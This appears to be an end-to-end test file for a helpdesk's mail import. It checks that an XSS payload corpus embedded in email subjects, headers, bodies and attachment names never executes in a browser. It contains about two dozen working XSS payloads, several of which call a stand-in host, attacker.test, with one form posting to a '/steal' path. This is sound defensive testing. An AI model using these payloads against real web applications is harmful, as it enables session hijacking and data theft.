import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import MailComposer from 'nodemailer/lib/mail-composer/index.js';
import { chromium, type Browser, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Tenant } from '../../core/db/schema.js';
import { createUser } from '../../core/people/user-service.js';
import { enablePlugin } from '../../core/plugin-host/plugin-switches.js';
import { createTenant } from '../../core/tenancy/tenant-service.js';
import { tenantTicketService } from '../../core/tickets/ticket-context.js';
import { helpdeskDb } from '../../plugins/helpdesk/helpdesk-db.js';
import { helpdeskPlugin } from '../../plugins/helpdesk/index.js';
import { createMailboxStore } from '../../plugins/helpdesk/mail/mailbox-store.js';
import { createSecretBox } from '../../plugins/helpdesk/mail/secret-box.js';
import { CHROMIUM_PATH, newContext, signInThroughForm, POLL } from '../harness/browser.js';
import { startTestServer, type TestServer } from '../harness/test-server.js';

const PASSWORD = 'e2e agent password';
const ATTACKER = 'attacker.test';

/** Every payload, if it ran, would set window.__xss, call alert or ask attacker.test for something. */
const CORPUS = [
  '<script>window.__xss=1;alert(1)</script>',
  '<img src=x onerror="window.__xss=2;alert(2)">',
  '<a id="js" href="javascript:window.__xss=3;alert(3)">js link</a>',
  '<a href="data:text/html,<script>alert(4)</script>">data link</a>',
  '<svg onload="window.__xss=5;alert(5)"><script>window.__xss=5</script></svg>',
  '<iframe srcdoc="<script>parent.__xss=6;alert(6)</script>"></iframe>',
  '<iframe src="javascript:alert(7)"></iframe>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(8)">',
  `<meta http-equiv="refresh" content="0;url=http://${ATTACKER}/refresh">`,
  '<div style="background:url(javascript:alert(9));width:expression(alert(9))">css</div>',
  `<base href="http://${ATTACKER}/">`,
  `<form action="http://${ATTACKER}/steal"><input name=q value=secret><button>go</button></form>`,
  `<style>@import 'http://${ATTACKER}/import.css'; body{background:url(http://${ATTACKER}/bg.png)}</style>`,
  '"><script>window.__xss=10;alert(10)</script>',
  "'><img src=x onerror=\"window.__xss=11;alert(11)\">",
  `<img src="http://${ATTACKER}/pixel.gif">`,
  '<object data="javascript:alert(12)"></object><embed src="javascript:alert(13)">',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss=14;alert(14)">',
  '<noscript><p title="</noscript><img src=x onerror=alert(15)>">',
  '<details open ontoggle="window.__xss=16;alert(16)">',
  '<video><source onerror="window.__xss=17;alert(17)"></video>',
  `<link rel=stylesheet href="http://${ATTACKER}/link.css">`,
  '<body onload="window.__xss=18;alert(18)">',
  '<img src="x` `<script>alert(19)</script>"` `>',
  '<a href="jav&#x09;ascript:alert(20)">tab</a>',
];
const ALL = CORPUS.join('\n');

/** A multipart mail carrying the corpus in its subject, From name, a header, both bodies and attachment names. */
async function rawMail(options: { from: string; subject: string; messageId: string; headers?: Record<string, string> }): Promise<Buffer> {
  const composer = new MailComposer({
    from: { name: `<img src=x onerror=alert(21)> "><script>alert(22)</script>`, address: options.from },
    to: 'support@acme.test',
    subject: options.subject,
    messageId: options.messageId,
    headers: { 'X-Payload': '<script>alert(23)</script>', ...options.headers },
    text: `Plain text part\n${ALL}\n\nOn Mon, Bob <script>alert(24)</script> wrote:\n> ${CORPUS[1]}`,
    html: `<p>HTML part</p>${ALL}<p><img src="cid:logo@x"></p>`,
    attachments: [
      { filename: '<img src=x onerror=alert(25)>.txt', content: ALL },
      { filename: '"><svg onload=alert(26)>.html', content: ALL, contentType: 'text/html' },
      { filename: 'logo.svg', content: `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(27)"><script>alert(27)</script></svg>`, contentType: 'image/svg+xml', cid: 'logo@x' },
    ],
  });
  return composer.compile().build();
}

describe('mail channel: an XSS corpus executes nothing in a real browser', () => {
  let server: TestServer;
  let browser: Browser;
  let tenant: Tenant;
  let base: string;
  const dialogs: string[] = [];
  const attacker: string[] = [];
  const paths: string[] = [];
  /** attacker.test resolves to this server (Chromium's host rules): what reaches it really left the browser. */
  let sink: Server;
  const hits: string[] = [];

  beforeAll(async () => {
    server = await startTestServer([helpdeskPlugin]);
    const { db, config, registry } = server.tresen.services;
    const services = server.tresen.services;
    tenant = await createTenant(db, { slug: 'acme', name: 'ACME', locale: 'en' });
    await enablePlugin(db, registry, tenant.id, 'helpdesk');
    await createUser(db, { tenantId: tenant.id, email: 'ada@acme.test', name: 'Ada Agent', role: 'agent', password: PASSWORD }, config.scryptLogN);
    // Inactive (nothing to fetch): the stored mails below go through the import job's parse, match and settle.
    const store = createMailboxStore(db, tenant.id, createSecretBox(config.secret));
    const mailboxId = await store.create({ name: 'Support', imap_host: '127.0.0.1', imap_port: 1, imap_tls: 'none', imap_user: 'u', imap_password: 'p', imap_folder: 'INBOX', smtp_url: '', from_address: 'support@acme.test', from_name: '', active: false });
    await store.addRule(mailboxId, { kind: 'domain', value: 'customer.test', category: '' });
    const existing = await (await tenantTicketService(services, tenant.id)).create({ subject: 'Printer', description: 'Broken', channel: 'mail' }, { kind: 'system', label: 'test' });
    const mails = [
      // A new ticket from a sender the rule knows.
      await rawMail({ from: 'carla@customer.test', subject: `New ${CORPUS[0]} ${CORPUS[1]}`, messageId: '<new@customer.test>' }),
      // An answer to the existing ticket: an article with the framed HTML.
      await rawMail({ from: 'carla@customer.test', subject: `Re: [#${existing.number}] ${CORPUS[2]}`, messageId: '<reply@customer.test>' }),
      // A stranger: an open helpdesk mail.
      await rawMail({ from: 'mallory@evil.test', subject: `Open ${CORPUS[13]}`, messageId: '<open@evil.test>' }),
    ];
    const hd = helpdeskDb(db);
    for (const [index, raw] of mails.entries()) {
      const sha256 = await services.files.put(tenant.id, raw, 'message/rfc822');
      await hd.insertInto('helpdesk_mails').values({
        tenant_id: tenant.id, mailbox_id: mailboxId, dedup_key: `sha256:${sha256}`, message_id: null, imap_uid: index + 1, raw_sha256: sha256, size: raw.byteLength,
        status: 'pending', claim: null, claimed_at: null, from_address: null, from_name: null, subject: null, sent_at: null, in_reply_to: null, reference_ids: null,
        body_text: null, body_html: null, auto_kind: null, note: null, ticket_id: null, article_id: null, discarded_at: null, discarded_by: null,
      }).execute();
    }
    const job = registry.get('helpdesk')!.contributions.jobs.find((j) => j.id === 'mail-import')!;
    await job.run({ tenantId: tenant.id, payload: {}, db, clock: services.clock, services });
    const settled = await hd.selectFrom('helpdesk_mails').select(['id', 'status', 'ticket_id', 'article_id', 'note']).where('tenant_id', '=', tenant.id).orderBy('id').execute();
    expect(settled.map((m) => [m.status, m.note])).toEqual([['ticket', null], ['article', null], ['open', null]]);
    const tickets = await db.selectFrom('tickets').select(['id', 'number']).where('tenant_id', '=', tenant.id).execute();
    const numberOf = (id: number | null) => tickets.find((t) => t.id === id)!.number;
    const articleId = settled[1]!.article_id!;
    const openId = settled[2]!.id;
    paths.push(
      `/desk/tickets/${existing.number}`, `/desk/tickets/${numberOf(settled[0]!.ticket_id)}`, '/desk/tickets', '/desk/tickets?q=printer',
      '/p/helpdesk/mails', `/p/helpdesk/mails/${openId}`, `/p/helpdesk/mails/${openId}/body`, `/p/helpdesk/articles/${articleId}/body`,
    );
    base = `${server.url}/t/acme`;
    sink = createServer((request, response) => { hits.push(request.url ?? ''); response.writeHead(200, { 'Content-Type': 'image/gif' }).end(); });
    await new Promise<void>((resolve) => sink.listen(0, '127.0.0.1', resolve));
    // As launchBrowser, plus attacker.test mapped to the sink.
    browser = await chromium.launch({
      executablePath: CHROMIUM_PATH,
      args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update',
        '--disable-sync', '--disable-dev-shm-usage', `--host-resolver-rules=MAP ${ATTACKER} 127.0.0.1:${(sink.address() as AddressInfo).port}`],
    });
  }, 60_000);
  afterAll(async () => {
    await browser?.close();
    await server?.stop();
    await new Promise((resolve) => sink?.close(resolve));
  });

  function watch(page: Page): void {
    page.on('dialog', (dialog) => {
      dialogs.push(`${page.url()}: ${dialog.message()}`);
      void dialog.dismiss();
    });
    // A request the CSP blocks still shows as a request; it must fail as blocked, never get an answer.
    page.on('requestfinished', (request) => {
      if (new URL(request.url()).hostname.endsWith(ATTACKER)) attacker.push(`${page.url()} -> ${request.url()}`);
    });
    page.on('requestfailed', (request) => {
      if (new URL(request.url()).hostname.endsWith(ATTACKER) && !/^csp$|BLOCKED_BY_CSP|blocked:csp/i.test(request.failure()?.errorText ?? '')) attacker.push(`${page.url()} -> ${request.url()} (${request.failure()?.errorText})`);
    });
  }

  /** window.__xss in the page and in every frame Playwright can reach (a frame without scripts cannot set it anyway). */
  async function marks(page: Page): Promise<unknown[]> {
    const found: unknown[] = [];
    for (const frame of page.frames()) {
      const value = await frame.evaluate(() => (window as unknown as { __xss?: unknown }).__xss).catch(() => undefined);
      if (value !== undefined) found.push(`${frame.url()}: ${String(value)}`);
    }
    return found;
  }

  it('the detectors see an executed payload (control)', async () => {
    const page = await (await newContext(browser)).newPage();
    const seen: string[] = [];
    page.on('dialog', (dialog) => { seen.push(dialog.message()); void dialog.dismiss(); });
    await page.setContent(`<img src=x onerror="window.__xss=1;alert('control')">`);
    await page.waitForFunction(() => (window as unknown as { __xss?: unknown }).__xss === 1);
    expect(seen).toEqual(['control']);
    expect(await marks(page)).toEqual(['about:blank: 1']);
    await page.context().close();
  });

  it('ticket pages, the open-mail pages and the mail frames run none of it', { timeout: 90_000 }, async () => {
    const context = await newContext(browser);
    context.on('page', watch);
    const page = await context.newPage();
    await signInThroughForm(page, base, 'ada@acme.test', PASSWORD);
    for (const path of paths) {
      const response = await page.goto(`${base}${path}`, { waitUntil: 'load' });
      expect(`${path} ${response?.status()}`).toBe(`${path} 200`);
      // Open every disclosure (folded quotes, framed originals), wait for the frames, then look.
      await page.evaluate(() => document.querySelectorAll('details').forEach((d) => { d.open = true; }));
      await Promise.all(page.frames().map((frame) => frame.waitForLoadState('load').catch(() => {})));
      await page.waitForTimeout(300);
      expect(await marks(page), path).toEqual([]);
    }
    // The corpus really reached the pages (escaped), so the test looked at it.
    await page.goto(`${base}${paths[0]}`);
    expect(await page.locator('.hd-folded').count()).toBeGreaterThan(0);
    const frame = page.frameLocator('iframe.hd-mail-frame').first();
    await expect.poll(() => frame.locator('body').textContent(), POLL).toContain('HTML part');
    await page.goto(`${base}${paths[5]}`);
    expect(await page.content()).toContain('&lt;script&gt;window.__xss=1;alert(1)&lt;/script&gt;');
    // A click on every link inside the mail frame leads nowhere that runs script.
    await page.goto(`${base}${paths[7]}`);
    for (const link of await page.locator('a').all()) await link.click({ timeout: 2000, modifiers: [] }).catch(() => {});
    await page.waitForTimeout(300);
    expect(await marks(page)).toEqual([]);
    expect(dialogs).toEqual([]);
    expect(attacker).toEqual([]);
    expect(hits).toEqual([]);

    // Asked for, remote images do load (so the block above is the frame's doing, not the sandbox's network).
    await page.goto(`${base}${paths[0]}`);
    await page.evaluate(() => document.querySelectorAll('details').forEach((d) => { d.open = true; }));
    await page.locator('a.hd-images').first().click();
    await expect.poll(() => hits, { timeout: 5000 }).toContain('/pixel.gif');
    expect(new URL(page.url()).pathname).toBe(`/t/acme${paths[0]}`);
    expect(await marks(page)).toEqual([]);
    expect(dialogs).toEqual([]);
    await context.close();
  });
});
